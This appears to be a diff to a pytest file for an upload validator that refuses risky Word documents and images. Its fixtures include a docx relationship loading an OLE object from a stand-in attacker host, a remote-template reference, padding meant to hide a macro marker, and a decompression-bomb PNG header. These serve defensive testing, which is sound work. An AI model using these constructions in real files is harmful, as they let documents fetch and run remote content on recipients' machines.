@@ -8,6 +8,7 @@ without EXIF or GPS, HEIC as JPEG, text as UTF-8, names normalised.
 from __future__ import annotations
 
 import io
+import os
 import struct
 import zipfile
 import zlib
@@ -19,6 +20,7 @@ from PIL import Image
 from blueprints.documents import checks
 from blueprints.documents.files import ALLOWED, FileRefused, check_upload
 from tests.fixtures_documents import docx_bytes, jpeg_bytes, pdf_bytes, png_bytes
+from tests.test_branding import png_header_only
 
 LIMIT = 25 * 1024 * 1024
 
@@ -186,6 +188,32 @@ def test_macro_enabled_documents_are_refused():
     assert "macros" in refused(docx_bytes(content_types=macro_types), "form.docx", 400)
 
 
+def _rels(*relationships: str) -> bytes:
+    return (
+        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        'relationships">' + "".join(relationships) + "</Relationships>"
+    ).encode()
+
+
+def test_word_documents_that_fetch_templates_or_objects_from_elsewhere_are_refused():
+    kinds = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+    link = (
+        f'<Relationship Id="rId1" Type="{kinds}hyperlink" Target="https://a.example" TargetMode="External" />'
+    )
+    check_upload(docx_bytes({"word/_rels/document.xml.rels": _rels(link)}), "ok.docx", max_bytes=LIMIT)
+    for kind, target in [
+        ("oleObject", "http://attacker.example/x.html!"),
+        ("attachedTemplate", "http://a.example/t.dotm"),
+    ]:
+        remote = f'<Relationship Id="rId9" Type="{kinds}{kind}" Target="{target}" TargetMode="External"/>'
+        rels = {"word/_rels/document.xml.rels": _rels(link, remote)}
+        assert "from elsewhere" in refused(docx_bytes(rels), "form.docx", 400)
+    # Padding cannot hide the tell-tale word across a read boundary (1 MiB): it straddles one here.
+    filler = os.urandom((1024 * 1024 - 5 - len(b"<Types>")) // 2).hex().encode()  # compresses ~2:1
+    padded_types = b"<Types>" + filler + b"macroEnabled</Types>"
+    assert "macros" in refused(docx_bytes(content_types=padded_types), "form.docx", 400)
+
+
 def test_a_zip_that_is_not_a_word_document_is_refused():
     out = io.BytesIO()
     with zipfile.ZipFile(out, "w") as archive:
@@ -201,8 +229,6 @@ def test_zip_bombs_are_refused():
 
 
 def test_the_total_size_of_a_word_document_is_capped(monkeypatch):
-    import os
-
     document = docx_bytes({"word/media/noise.bin": os.urandom(300_000)})  # does not compress: ratio ~1
     check_upload(document, "form.docx", max_bytes=LIMIT)
     monkeypatch.setattr(checks, "DOCX_MAX_UNCOMPRESSED", 200_000)
@@ -361,24 +387,9 @@ def test_images_lose_exif_and_gps_and_are_turned_upright(kind):
         assert clean.name == "photo.jpg" and clean.content_type == "image/jpeg"
 
 
-def _png_claiming(width: int, height: int) -> bytes:
-    """A tiny PNG whose header claims width × height pixels (a decompression bomb's header)."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-
-    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
-    return (
-        b"\x89PNG\r\n\x1a\n"
-        + chunk(b"IHDR", header)
-        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
-        + (chunk(b"IEND", b""))
-    )
-
-
 @pytest.mark.parametrize("size", [(10_000, 10_000), (100_000, 100_000)])
 def test_images_over_the_pixel_cap_are_refused_before_decoding(size):
-    bomb = _png_claiming(*size)
+    bomb = png_header_only(*size)
     assert len(bomb) < 200
     assert "too large" in refused(bomb, "bomb.png", 400)
 
